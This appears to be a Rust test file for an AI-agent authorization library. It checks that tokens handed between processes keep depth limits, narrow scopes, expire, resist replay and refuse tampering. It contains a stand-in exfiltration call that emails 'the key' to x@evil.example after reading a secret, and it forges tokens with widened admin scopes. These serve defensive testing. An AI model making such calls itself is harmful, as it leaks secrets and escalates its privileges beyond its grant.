//! Chain tokens: a task hands its chain to a guard in another process (here a second guard
//! with keys of its own), which continues it; every bad token is refused.

use std::sync::Arc;

use agentwarrant::{
    Guard, Identity, Intent, JwtKeys, JwtSigningKey, Limits, ManualClock, MemoryLedger, Outcome,
    ReasonCode, Role, TaskError, ToolCall,
};
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine as _;
use serde_json::{json, Value as Json};

use crate::fixtures::*;

/// The guard of the caller's process, and the guard of a tool server that trusts its keys.
fn two_processes() -> (Guard, Guard, Arc<MemoryLedger>) {
    let caller = builder().approver(approve_as(BOB)).build().unwrap();
    let ledger = Arc::new(MemoryLedger::new());
    let server = builder()
        .approver(approve_as(BOB))
        .ledger(ledger.clone())
        .trust_chain_keys(caller.jwks())
        .build()
        .unwrap();
    (caller, server, ledger)
}

fn worker() -> Identity {
    agent("agent://acme/tool-server", Role::Executor, CAROL)
}

fn code(error: agentwarrant::Error) -> &'static str {
    error.code()
}

#[test]
fn depth_keeps_counting_below_the_handing_call() {
    let (caller, server, _) = two_processes();
    let task = caller.begin(ops(), anything()).unwrap();
    let outer = task
        .authorize(ToolCall::new("read_logs", json!({"service": "api"})))
        .unwrap();
    assert_eq!(outer.depth(), 1);
    let token = outer.chain_token().unwrap();

    let remote = server.resume_chain(&token, worker(), None).unwrap();
    let inner = remote
        .authorize(ToolCall::new("read_logs", json!({"service": "db"})))
        .unwrap();
    assert_eq!(inner.depth(), 2);
    inner.complete(Outcome::ok()).unwrap();
    outer.complete(Outcome::ok()).unwrap();

    // From the task itself, the continued work sits one level below it, like a sub-task.
    let from_task = server
        .resume_chain(&task.chain_token().unwrap(), worker(), None)
        .unwrap();
    let call = from_task
        .authorize(ToolCall::new("read_logs", json!({"service": "db"})))
        .unwrap();
    assert_eq!(call.depth(), 2);
}

#[test]
fn the_depth_limit_holds_across_the_process_boundary() {
    let limits = Limits {
        max_depth: Some(2),
        ..Limits::default()
    };
    let caller = builder().limits(limits).build().unwrap();
    let server = builder()
        .limits(limits)
        .trust_chain_keys(caller.jwks())
        .build()
        .unwrap();
    let task = caller.begin(ops(), anything()).unwrap();
    let outer = task
        .authorize(ToolCall::new("read_logs", json!({"service": "api"})))
        .unwrap();
    let second = task
        .authorize(ToolCall::new("read_logs", json!({"service": "db"})).child_of(outer.call_id()))
        .unwrap();
    assert_eq!(second.depth(), 2);

    let remote = server
        .resume_chain(&second.chain_token().unwrap(), worker(), None)
        .unwrap();
    let refusal = remote
        .authorize(ToolCall::new("read_logs", json!({"service": "cache"})))
        .unwrap_err();
    assert!(refusal.has(&ReasonCode::DepthExceeded), "{refusal:?}");
}

#[test]
fn a_secret_read_before_the_handoff_still_forbids_sending_it_out() {
    let (caller, server, _) = two_processes();
    let task = caller.begin(ops(), anything()).unwrap();
    let read = task
        .authorize(ToolCall::new("read_secret", json!({"path": "db/main"})))
        .unwrap();
    read.complete(Outcome::ok()).unwrap();

    let remote = server
        .resume_chain(&task.chain_token().unwrap(), worker(), None)
        .unwrap();
    assert_eq!(remote.chain_labels(), ["secret"]);
    let refusal = remote
        .authorize(ToolCall::new(
            "send_email",
            json!({"to": "x@evil.example", "body": "the key"}),
        ))
        .unwrap_err();
    assert!(refusal.has(&ReasonCode::Exfiltration), "{refusal:?}");
}

#[test]
fn labels_flow_back_with_the_result() {
    let (caller, server, _) = two_processes();
    let task = caller.begin(ops(), anything()).unwrap();
    let outer = task
        .authorize(ToolCall::new(
            "fetch_url",
            json!({"url": "https://acme.example/a"}),
        ))
        .unwrap();
    let remote = server
        .resume_chain(&outer.chain_token().unwrap(), worker(), None)
        .unwrap();
    let fetched = remote
        .authorize(ToolCall::new(
            "fetch_url",
            json!({"url": "https://news.example/b"}),
        ))
        .unwrap();
    fetched
        .complete(Outcome::ok().with_labels(["untrusted"]))
        .unwrap();

    // The tool server sends its chain's labels back with the result.
    outer
        .complete(Outcome::ok().with_labels(remote.chain_labels()))
        .unwrap();
    assert_eq!(task.chain_labels(), ["untrusted"]);
}

#[test]
fn scopes_only_narrow() {
    let (caller, server, _) = two_processes();
    let intent = Intent::builder("read the api's logs")
        .scopes(["logs.read:api", "email.send:*"])
        .build()
        .unwrap();
    let task = caller.begin(ops(), intent).unwrap();

    // More than the grant holds cannot be handed on.
    let wider = task.chain_token_for(["logs.read:*"]).unwrap_err();
    assert_eq!(code(wider), "chain_token_invalid");

    // The worker's ceiling covers everything; its grant is what was handed on.
    let token = task.chain_token_for(["logs.read:api"]).unwrap();
    let remote = server.resume_chain(&token, worker(), None).unwrap();
    assert_eq!(remote.grant().scopes(), ["logs.read:api"]);
    let refusal = remote
        .authorize(ToolCall::new(
            "send_email",
            json!({"to": "a@acme.com", "body": "hi"}),
        ))
        .unwrap_err();
    assert!(refusal.has(&ReasonCode::OutsideCeiling), "{refusal:?}");

    // A sub-agent asking for more than its parent holds is refused, not quietly narrowed.
    let token = task.chain_token_for(["logs.read:api"]).unwrap();
    let greedy = Intent::builder("read every log")
        .scopes(["logs.read:*"])
        .build()
        .unwrap();
    let refused = server
        .resume_chain(&token, worker(), Some(greedy))
        .unwrap_err();
    assert_eq!(code(refused), "chain_token_invalid");
}

#[test]
fn the_continued_grant_never_outlives_the_handing_grant() {
    let (caller, server, _) = two_processes();
    let task = caller.begin(ops(), anything()).unwrap();
    let remote = server
        .resume_chain(&task.chain_token().unwrap(), worker(), None)
        .unwrap();
    assert!(remote.grant().expires_at() <= task.grant().expires_at());
    assert_eq!(
        remote.grant().lineage(),
        [task.grant().id()],
        "the handing grant is the continued grant's parent"
    );
}

#[test]
fn the_identities_above_still_answer_for_the_work() {
    let (caller, server, _) = two_processes();
    let task = caller.begin(ops(), anything()).unwrap();
    let remote = server
        .resume_chain(&task.chain_token().unwrap(), worker(), None)
        .unwrap();
    // The kill switch for the handing identity, thrown where the work continues.
    server.disable_identity("agent://acme/ops");
    let refusal = remote
        .authorize(ToolCall::new("read_logs", json!({"service": "api"})))
        .unwrap_err();
    assert!(refusal.has(&ReasonCode::GrantInvalid), "{refusal:?}");
}

#[test]
fn the_resumption_is_recorded_with_the_token_it_spent() {
    let (caller, server, ledger) = two_processes();
    let task = caller.begin(ops(), anything()).unwrap();
    let token = task.chain_token().unwrap();
    let remote = server.resume_chain(&token, worker(), None).unwrap();
    let begun = ledger
        .records()
        .into_iter()
        .find(|r| r.kind.as_str() == "task.begun")
        .unwrap();
    let detail = begun.detail.unwrap();
    let resumed = &detail["resumed_from"];
    assert_eq!(resumed["task"], json!(task.id().to_string()));
    assert_eq!(resumed["identity"], json!("agent://acme/ops"));
    assert_eq!(resumed["depth"], json!(1));
    assert_eq!(detail["parent_task_id"], json!(task.id().to_string()));
    assert_ne!(remote.id(), task.id());
}

/// The token's three parts, its claims decoded.
fn claims(token: &str) -> Json {
    let payload = token.split('.').nth(1).unwrap();
    serde_json::from_slice(&URL_SAFE_NO_PAD.decode(payload).unwrap()).unwrap()
}

/// The token with its claims replaced (the signature left as it was).
fn with_claims(token: &str, claims: &Json) -> String {
    let mut parts: Vec<String> = token.split('.').map(str::to_owned).collect();
    parts[1] = URL_SAFE_NO_PAD.encode(serde_json::to_vec(claims).unwrap());
    parts.join(".")
}

#[test]
fn tampered_forged_truncated_oversized_and_widened_tokens_are_refused() {
    let (caller, server, _) = two_processes();
    let task = caller.begin(ops(), anything()).unwrap();
    let token = task.chain_token().unwrap();

    let mut widened = claims(&token);
    widened["scope"] = json!("logs.read:* secrets.read:* admin:*");
    let mut shallower = claims(&token);
    shallower["depth"] = json!(0);
    let mut cleaned = claims(&token);
    cleaned["labels"] = json!([]);
    let stranger = Guard::builder()
        .jwt_keys(JwtKeys::new(JwtSigningKey::from_seed([9; 32])))
        .tools(all_tools())
        .build()
        .unwrap();
    let forged = stranger
        .begin(ops(), anything())
        .unwrap()
        .chain_token()
        .unwrap();
    let grant_token = task.grant_token().unwrap();

    let bad = [
        ("widened", with_claims(&token, &widened)),
        ("shallower", with_claims(&token, &shallower)),
        ("labels removed", with_claims(&token, &cleaned)),
        ("signed by an untrusted key", forged),
        ("truncated", token[..token.len() - 10].to_owned()),
        ("oversized", format!("{token}{}", "A".repeat(20_000))),
        ("garbage", "not a token".to_owned()),
        ("empty", String::new()),
        ("a grant token", grant_token),
    ];
    for (what, bad) in bad {
        let refused = server.resume_chain(&bad, worker(), None).unwrap_err();
        assert_eq!(code(refused), "chain_token_invalid", "{what}");
    }
    // The genuine token still works once, and only once.
    let _continued = server.resume_chain(&token, worker(), None).unwrap();
    let replayed = server.resume_chain(&token, worker(), None).unwrap_err();
    assert!(
        matches!(&replayed, agentwarrant::Error::Task(TaskError::ChainTokenInvalid { problem }) if problem.contains("already used")),
        "{replayed}"
    );
}

#[test]
fn an_expired_token_is_refused() {
    let clock = Arc::new(ManualClock::new(time::OffsetDateTime::now_utc()));
    let caller = builder().clock(clock.clone()).build().unwrap();
    let server = builder()
        .clock(clock.clone())
        .trust_chain_keys(caller.jwks())
        .build()
        .unwrap();
    let task = caller.begin(ops(), anything()).unwrap();
    let token = task.chain_token().unwrap();
    // Past the token's five minutes and the verifier's leeway.
    clock.advance(time::Duration::minutes(7));
    let refused = server.resume_chain(&token, worker(), None).unwrap_err();
    assert_eq!(code(refused), "chain_token_invalid");
}

#[test]
fn an_ended_task_hands_nothing_on_and_its_tokens_die_with_it() {
    let caller = builder().build().unwrap();
    let task = caller.begin(ops(), anything()).unwrap();
    let token = task.chain_token().unwrap();
    task.end().unwrap();
    assert_eq!(code(task.chain_token().unwrap_err()), "task_ended");
    // The same guard (or any guard sharing its revocation store) sees the grant revoked.
    let refused = caller.resume_chain(&token, worker(), None).unwrap_err();
    assert_eq!(code(refused), "chain_token_invalid");
}

#[test]
fn a_handed_chain_names_no_target_whatever_scopes_it_carries() {
    // The server lets `untrusted_input` bite only on targets nobody named; the scopes a
    // chain token hands on were chosen by an agent, so they name nothing there.
    let caller = builder().approver(approve_as(BOB)).build().unwrap();
    let server = builder()
        .policy(unnamed_targets_policy())
        .approver(approve_as(BOB))
        .trust_chain_keys(caller.jwks())
        .build()
        .unwrap();
    let intent = Intent::builder("read the page, then mail bob@acme.com")
        .scopes(["email.send:bob@acme.com", "web.fetch:*"])
        .build()
        .unwrap();
    let task = caller.begin(ops(), intent).unwrap();
    read_untrusted(&task);

    let remote = server
        .resume_chain(&task.chain_token().unwrap(), worker(), None)
        .unwrap();
    let send = remote
        .authorize(ToolCall::new(
            "send_email",
            json!({"to": "bob@acme.com", "body": "hi"}),
        ))
        .unwrap();
    assert!(send.decision().has(&ReasonCode::UntrustedInput));
}
